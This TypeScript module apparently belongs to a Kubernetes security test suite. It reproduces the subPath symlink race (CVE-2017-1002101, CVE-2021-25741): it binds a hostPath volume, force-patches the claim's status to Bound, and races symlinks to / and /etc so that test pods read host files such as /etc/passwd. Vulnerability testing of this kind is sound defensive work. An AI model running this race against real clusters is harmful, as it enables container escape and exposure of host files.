import { randomBytes } from 'node:crypto';
import { each, type Attack } from '../attack.ts';
import { at, type Target } from '../target.ts';

/** Swaps the folder `d` of a volume for a link, and back, for as long as it runs. */
const swap = (to: string): string =>
  `cd /v; mkdir -p d; echo mine > d/marker; while :; do mv d e; ln -s ${to} d; usleep 2000; ` +
  'rm d; mv e d; usleep 2000; done';
/** How many pods try, and for how long. */
const tries = 16;
const tryMs = 30_000;

interface Race {
  /** What the link points to. */
  to: string;
  subPath: string;
  /** The claim is mounted read-only by those who try. */
  readOnlyClaim: boolean;
  /** Shell text that ends with 7 when it sees the host. */
  sees: string;
}

/** A claim bound to a folder of the node, whoever binds claims here. */
async function boundClaim(target: Target, ns: string): Promise<void> {
  const name = `attack-${randomBytes(4).toString('hex')}`;
  const common = { accessModes: ['ReadWriteMany'], storageClassName: '' };
  await target.make('/api/v1/persistentvolumes', {
    apiVersion: 'v1',
    kind: 'PersistentVolume',
    metadata: { name },
    spec: {
      ...common,
      capacity: { storage: '1Gi' },
      hostPath: { path: `/tmp/${name}`, type: 'DirectoryOrCreate' },
      claimRef: { namespace: ns, name: 'shared' },
    },
  });
  await target.make(`/api/v1/namespaces/${ns}/persistentvolumeclaims`, {
    apiVersion: 'v1',
    kind: 'PersistentVolumeClaim',
    metadata: { name: 'shared' },
    spec: { ...common, volumeName: name, resources: { requests: { storage: '1Gi' } } },
  });
  const path = `/api/v1/namespaces/${ns}/persistentvolumeclaims/shared`;
  const bound = async (): Promise<boolean> =>
    at((await target.call({ path })).json, 'status', 'phase') === 'Bound';
  await target.until('the claim is bound', bound, 5_000).catch(async () => {
    await target.call({
      method: 'PATCH',
      path: `${path}/status`,
      type: 'application/merge-patch+json',
      body: { status: { phase: 'Bound' } },
    });
    await target.until('the claim is bound', bound, 5_000);
  });
}

async function race(
  target: Target,
  { to, subPath, readOnlyClaim, sees }: Race,
): Promise<string | undefined> {
  const ns = await target.namespace();
  await boundClaim(target, ns);
  const pods = `/api/v1/namespaces/${ns}/pods`;
  const pod = (name: string, readOnly: boolean, container: object): object => ({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name },
    spec: {
      nodeName: target.node,
      restartPolicy: 'Never',
      terminationGracePeriodSeconds: 0,
      volumes: [{ name: 'v', persistentVolumeClaim: { claimName: 'shared', readOnly } }],
      containers: [
        { name: 'c', image: target.image, imagePullPolicy: 'IfNotPresent', ...container },
      ],
    },
  });
  await target.make(
    pods,
    pod('swapper', false, {
      command: ['sh', '-c', swap(to)],
      volumeMounts: [{ name: 'v', mountPath: '/v' }],
    }) as never,
  );
  await target.until(
    'the swapper runs',
    async () =>
      at((await target.call({ path: `${pods}/swapper` })).json, 'status', 'phase') === 'Running',
  );
  const names = Array.from({ length: tries }, (_, i) => `try-${i}`);
  for (const name of names)
    await target.make(
      pods,
      pod(name, readOnlyClaim, {
        command: ['sh', '-c', sees],
        volumeMounts: [{ name: 'v', mountPath: '/x', subPath }],
      }) as never,
    );
  const exits = async (): Promise<(number | undefined)[]> =>
    Promise.all(
      names.map(
        async (name) =>
          at(
            (await target.call({ path: `${pods}/${name}` })).json,
            'status',
            'containerStatuses',
            0,
            'state',
            'terminated',
            'exitCode',
          ) as number | undefined,
      ),
    );
  await target
    .until('all have ended', async () => (await exits()).every((code) => code !== undefined), tryMs)
    .catch(() => undefined);
  const codes = await exits();
  if (!codes.some((code) => code !== undefined)) throw new Error('no pod got as far as to look');
  const out = codes.filter((code) => code === 7).length;
  return out === 0 ? undefined : `${out} of ${tries} pods saw the host`;
}

const root = { to: '/', sees: '[ -e /x/proc/1 ] || [ -e /x/etc/passwd ] && exit 7; exit 0' };

/**
 * What a pod mounts by subPath must be what was looked at, whatever others do to its volume
 * meanwhile (CVE-2017-1002101, CVE-2021-25741).
 */
export const attacks: Attack[] = each<Race>(
  'sub-path-race',
  {
    'claim-read-only': { ...root, subPath: 'd', readOnlyClaim: true },
    'claim-written': { ...root, subPath: 'd', readOnlyClaim: false },
    'file-of-a-read-only-claim': {
      to: '/etc',
      subPath: 'd/passwd',
      readOnlyClaim: true,
      sees: 'grep -q ^root: /x 2>/dev/null && exit 7; exit 0',
    },
    'folder-that-must-be-made': {
      to: '/etc',
      subPath: 'd/ssl',
      readOnlyClaim: true,
      sees: '[ -n "$(ls /x)" ] && exit 7; exit 0',
    },
  },
  race,
  { needsNode: true },
);
